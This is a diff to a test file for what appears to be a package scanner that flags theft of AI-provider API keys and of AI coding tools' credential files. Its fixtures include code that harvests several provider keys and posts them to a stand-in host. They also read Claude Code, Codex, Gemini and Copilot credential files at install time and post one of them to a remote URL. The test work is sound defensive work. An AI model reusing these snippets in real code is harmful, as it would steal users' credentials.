@@ -44,6 +44,15 @@ describe('ai-keys: an SDK and its own provider', () => {
     expect(r.verdict).toBe('clean');
   });
 
+  test('a key that reaches another provider\'s API only through a shared request object is not theft', () => {
+    const r = scanFiles({
+      'index.js':
+        "function pick(input) { return input.model || 'gpt-x'; }\nasync function callOpenAI(input) { const model = pick(input); return fetch('https://api.openai.com/v1/chat/completions', { method: 'POST', headers: { authorization: 'Bearer ' + process.env.OPENAI_API_KEY }, body: JSON.stringify({ model, prompt: input.prompt }) }); }\nexports.run = (prompt) => callOpenAI({ prompt, apiKey: process.env.ANTHROPIC_API_KEY });",
+    });
+    expect(r.of(FLOW).map((f) => f.severity)).toEqual(['low', 'low']);
+    expect(r.verdict).toBe('clean');
+  });
+
   test('an AI gateway (Helicone) carrying the key and its own key is configured, not stolen', () => {
     const r = scanFiles({ 'index.js': "module.exports = (b) => fetch('https://oai.helicone.ai/v1/chat/completions', { method: 'POST', headers: { Authorization: 'Bearer ' + process.env.OPENAI_API_KEY, 'Helicone-Auth': 'Bearer ' + process.env.HELICONE_API_KEY }, body: b });" });
     expect(r.verdict).toBe('clean');
@@ -78,7 +87,7 @@ describe('ai-keys: the same key elsewhere', () => {
   test('a loop over several providers\' key names is a harvest', () => {
     const r = scanFiles({ 'index.js': "const out = {};\nfor (const k of ['OPENAI_API_KEY', 'ANTHROPIC_API_KEY', 'GEMINI_API_KEY']) out[k] = process.env[k];\nrequire('https').request({ host: 'api.x.invalid', method: 'POST' }).end(JSON.stringify(out));" });
     expect(r.of(FLOW)).toEqual([finding('critical', ['flow:ai-key'], { message: expect.stringContaining('harvest') })]);
-    expect(r.of(RULE)).toContainEqual(finding('medium', ['ai-key-scan'], { message: expect.stringContaining('3 AI providers') }));
+    expect(r.of(RULE)).toContainEqual(finding('low', ['ai-key-scan'], { message: expect.stringContaining('3 AI providers') }));
     expect(r.verdict).toBe('malicious');
   });
 
@@ -117,6 +126,31 @@ describe('ai-keys: install time', () => {
   test('a postinstall that only checks whether the key is set is low and clean', () => {
     const r = scanFiles({ 'package.json': manifest({ scripts: { postinstall: 'node hint.js' } }), 'hint.js': "if (!process.env.OPENAI_API_KEY) console.log('Set OPENAI_API_KEY to use the CLI.');\nif (typeof process.env.GEMINI_API_KEY === 'undefined') console.log('Gemini is optional.');" });
     expect(r.of(RULE)).toEqual([finding('low', [], { message: expect.stringContaining('checks whether') }), finding('low', [], { message: expect.stringContaining('GEMINI_API_KEY') })]);
+    expect(r.verdict).toBe('clean');
+  });
+});
+
+describe("ai-keys: AI tools' credential files", () => {
+  test.each([
+    ["path.join(os.homedir(), '.claude', '.credentials.json')", 'Claude Code OAuth credentials'],
+    ["path.join(os.homedir(), '.codex', 'auth.json')", 'Codex CLI credentials'],
+    ["path.join(os.homedir(), '.gemini', 'oauth_creds.json')", 'Gemini CLI credentials'],
+    ["path.join(os.homedir(), '.config', 'github-copilot', 'apps.json')", 'GitHub Copilot tokens'],
+  ])('reading %s at install is malicious', (expr, label) => {
+    const r = scanFiles({ 'package.json': manifest({ scripts: { postinstall: 'node p.js' } }), 'p.js': `const fs = require('fs'); const os = require('os'); const path = require('path');\nconst t = fs.readFileSync(${expr}, 'utf8');\nmodule.exports = t.length;` });
+    expect(r.of('credential-files')).toContainEqual(finding('high', ['source:credential-file', 'source:ai-key'], { message: expect.stringContaining(label) }));
+    expect(r.verdict).toBe('malicious');
+  });
+
+  test('a library that sends ~/.codex/auth.json anywhere is malicious', () => {
+    const r = scanFiles({ 'index.js': "const fs = require('fs'); const os = require('os');\nmodule.exports = () => fetch('https://api.openai.com/v1/sync', { method: 'POST', body: fs.readFileSync(os.homedir() + '/.codex/auth.json') });" });
+    expect(r.of(FLOW)).toContainEqual(finding('critical', ['flow:secret'], { message: expect.stringContaining('Codex CLI credentials') }));
+    expect(r.verdict).toBe('malicious');
+  });
+
+  test('a usage tracker reading ~/.claude.json on demand, with no way out, is clean', () => {
+    const r = scanFiles({ 'index.js': "const fs = require('fs'); const os = require('os'); const path = require('path');\nmodule.exports = () => JSON.parse(fs.readFileSync(path.join(os.homedir(), '.claude.json'), 'utf8')).numStartups;" });
+    expect(r.of('credential-files')).toEqual([finding('medium', ['source:ai-key'])]);
     expect(r.verdict).toBe('clean');
   });
 });
